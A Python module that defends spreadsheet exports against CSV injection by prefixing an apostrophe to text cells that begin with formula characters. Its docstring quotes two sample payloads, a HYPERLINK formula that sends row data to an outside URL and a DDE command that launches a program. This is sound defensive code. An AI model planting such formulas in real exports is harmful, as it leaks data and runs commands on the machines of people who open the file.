"""Writing values out to a spreadsheet (CSV, .xlsx) without letting one become a formula.

Anyone can put text in our data: a resident's name or conditions from an imported sheet, a
note typed in the console. Stored, such text is harmless; written to a CSV or .xlsx that
someone opens in Excel or WPS, a value starting with = + - @ (or a tab or carriage return, which
some readers strip before looking) is a formula: `=HYPERLINK("http://…?"&A1, "点我")` sends the
row's other cells away, `=cmd|' /C calc'!A0` runs a program through DDE (CSV injection, OWASP).

The importer stores every value as it came (a name is a name); EVERY writer of a spreadsheet
goes through `safe_cell` (or `csv_writer`, which applies it to each cell), so the text shows as
typed and is never evaluated. The console's exports must use it too. Rule: a text value whose
first character is one of FORMULA_STARTS gets a leading apostrophe, which Excel and WPS show as
"this cell is text" and do not display; numbers (int, float) are written as numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date, datetime, time
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """The value as spreadsheet text that no spreadsheet evaluates ('=1+1 for =1+1)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, int | float):
        return str(value)  # a number: -5 is minus five, not a formula
    if isinstance(value, datetime | date | time):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[str]:
    return [safe_cell(v) for v in values]


class _SafeWriter:
    def __init__(self, file: IO[str], **kwargs: Any):
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file: IO[str], **kwargs: Any) -> _SafeWriter:
    """csv.writer whose every cell goes through safe_cell. Open the file with newline="" and,
    for Excel, encoding="utf-8-sig" (Excel reads a CSV without BOM as the system's GBK)."""
    return _SafeWriter(file, **kwargs)
